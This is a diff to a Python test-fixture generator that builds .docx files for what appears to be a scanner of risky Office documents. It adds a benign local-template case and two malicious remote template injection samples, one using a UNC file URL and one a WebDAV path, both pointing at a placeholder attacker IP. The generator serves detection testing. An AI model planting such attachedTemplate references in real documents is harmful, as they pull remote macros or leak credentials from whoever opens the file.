@@ -170,6 +170,11 @@ def benign(d):
     odd = rels([("rId1", R + "hyperlink", "https://example.org/", "&#x45;xtern&#97;l")],
                prefix="pr", extra="<!-- a <comment> --><![CDATA[ <Relationship ]]>")
     write(d, "hyperlink_encoded.docx", docx(more=[("word/_rels/footnotes.xml.rels", odd)]))
+    # made from a local template: Word records it as an external relationship
+    write(d, "template_local.docx", docx(settings_rels=rels(
+        [("rId1", R + "attachedTemplate",
+          "file:///C:\\Users\\ana\\AppData\\Roaming\\Microsoft\\Templates\\Report.dotx",
+          "External")])))
 
 
 def macros(d):
@@ -206,6 +211,10 @@ def active(d):
     ext = "External"
     write(d, "template_injection.docx", docx(settings_rels=rels(
         [("rId1", R + "attachedTemplate", "http://203.0.113.9/Normal.dotm", ext)])))
+    write(d, "template_unc_file.docx", docx(settings_rels=rels(
+        [("rId1", R + "attachedTemplate", "file://203.0.113.9/share/Normal.dotm", ext)])))
+    write(d, "template_webdav.docx", docx(settings_rels=rels(
+        [("rId1", R + "attachedTemplate", "file:///\\\\203.0.113.9@SSL\\t.dotm", ext)])))
     # the same with the mode and type spelled with references and prefixes
     write(d, "template_injection_encoded.docx", docx(settings_rels=rels(
         [("rId1", R.replace("/r", "/&#x72;") + "attachedTempl&#97;te",
